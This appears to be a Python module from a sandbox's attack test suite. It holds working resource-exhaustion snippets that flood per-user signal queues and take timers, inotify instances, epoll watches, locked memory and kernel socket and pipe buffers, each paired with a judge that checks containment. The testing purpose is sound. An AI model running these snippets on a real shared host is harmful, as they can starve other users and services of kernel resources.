"""What the kernel counts per user, or not at all: signals, timers, watches, kernel memory.

A session with the host's user id takes these from the host. No limit of a process counts what waits
in sockets and pipes.
"""

from rlm.testing.attacks.attempt import MEMORY_BYTES, Attack
from rlm.testing.attacks.judges import claims, queues_signals

__all__ = ["ATTACKS"]

_GROUP = "counts"

_SIGNALS = {
    "fill the user's queue of signals (kill)": """
import signal
signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN + 1])
for _ in range(20_000): os.kill(os.getpid(), signal.SIGRTMIN + 1)
""",
    "fill the user's queue of signals (rt_sigqueueinfo)": """
import signal
signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN + 2])
number = int(signal.SIGRTMIN + 2)
info = struct.pack('<iii', number, 0, -1) + bytes(116)
for _ in range(20_000): syscall('rt_sigqueueinfo', os.getpid(), number, info)
""",
    "fill the user's queue of signals (tgkill)": """
import signal, threading
signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN + 3])
number, thread = int(signal.SIGRTMIN + 3), threading.get_native_id()
for _ in range(20_000): syscall('tgkill', os.getpid(), thread, number)
""",
    "take the user's timers (timer_create)": """
import ctypes
made = ctypes.c_void_p()
for _ in range(20_000): syscall('timer_create', 1, None, ctypes.byref(made))
""",
}

_COUNTS = {
    "take the user's message queues (mq_open)": """
name = target['shared_name'].encode()
number = syscall('mq_open', name, os.O_CREAT | os.O_RDWR, 0o600, None)
syscall('mq_unlink', name)
got('made a queue of messages')
""",
    "take the user's inotify instances": """
numbers = []
for _ in range(60):
    number = library().inotify_init1(0)
    if number < 0: raise PermissionError('inotify_init1')
    numbers.append(number)
got('holds', len(numbers), 'instances')
""",
    "take the user's keys (add_key)": """
probe('add_key', b'user', target['shared_name'].encode(), b'x', 1, -2)
""",
    "take the user's locked memory (mlock)": """
import mmap
block = mmap.mmap(-1, 1 << 16)
import ctypes
place = ctypes.addressof(ctypes.c_char.from_buffer(block))
syscall('mlock', place, 1 << 16)
got('locked memory')
""",
    "take 50,000 of the user's epoll watches": """
import select
numbers = [os.eventfd(0)]
try:
    while len(numbers) < 250: numbers.append(os.eventfd(0))
except OSError as error: denied(error)
polls, watches = [], 0
try:
    while watches < 50_000:
        polls.append(select.epoll())
        for number in numbers:
            polls[-1].register(number)
            watches += 1
    got('holds', watches, 'watches')
except OSError as error: denied(f'{error} after {watches}')
""",
}

_FILL = f"""
import socket, fcntl
def fill(ends, write):
    '''Write to every end until it takes no more, or the allowance is passed.'''
    taken = 0
    for end in ends:
        try:
            while taken <= {MEMORY_BYTES}: taken += write(end)
        except BlockingIOError: continue
        if taken > {MEMORY_BYTES}:
            got('has', taken >> 20, 'MB waiting, where {MEMORY_BYTES >> 20} MB are allowed')
            return
    denied(f'{{taken >> 20}} MB in {{len(ends)}} ends')
ends = []
def open_all(make, most=500):
    try:
        while len(ends) < most: ends.extend(make())
    except OSError as error: denied(error)
piece = bytes(1 << 16)
"""

_KERNEL_MEMORY = {
    "take kernel memory with large socket buffers (SO_SNDBUF)": """
def pair():
    made = socket.socketpair()
    for each in made:
        each.setblocking(False)
        each.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    return made
open_all(pair)
fill(ends, lambda end: end.send(piece))
""",
    "take kernel memory with large datagram buffers": """
def pair():
    made = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    for each in made:
        each.setblocking(False)
        each.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    return made
open_all(pair)
fill(ends, lambda end: end.send(piece))
""",
    "take kernel memory with thousands of sockets": """
import resource
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
try: resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
except (OSError, ValueError) as error: denied(error)
def pair():
    made = socket.socketpair()
    for each in made: each.setblocking(False)
    return made
open_all(pair, 4_000)
fill(ends, lambda end: end.send(piece))
""",
    "take kernel memory with large pipes (F_SETPIPE_SZ)": """
def pipe():
    reader, writer = os.pipe()
    fcntl.fcntl(writer, 1031, 1 << 20)
    os.set_blocking(writer, False)
    return [writer]
open_all(pipe, 240)
fill(ends, lambda end: os.write(end, piece))
""",
    "keep files open in unread messages (SCM_RIGHTS)": """
import array
ours, theirs = socket.socketpair()
rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [0] * 200))
ours.sendmsg([b'x'], [rights])
got('keeps 200 files in a message')
""",
    "move pages into a pipe (vmsplice)": """
import ctypes
reader, writer = os.pipe()
page = ctypes.create_string_buffer(4096)
span = struct.pack('<QQ', ctypes.addressof(page), 4096)
probe('vmsplice', writer, span, 1, 0)
""",
}

ATTACKS = (
    *(
        Attack(name=name, group=_GROUP, code=code, judge=queues_signals, shares=True)
        for name, code in _SIGNALS.items()
    ),
    *(Attack(name=name, group=_GROUP, code=code, judge=claims) for name, code in _COUNTS.items()),
    *(
        Attack(name=name, group=_GROUP, code=f"{_FILL}\n{code}", judge=claims)
        for name, code in _KERNEL_MEMORY.items()
    ),
)
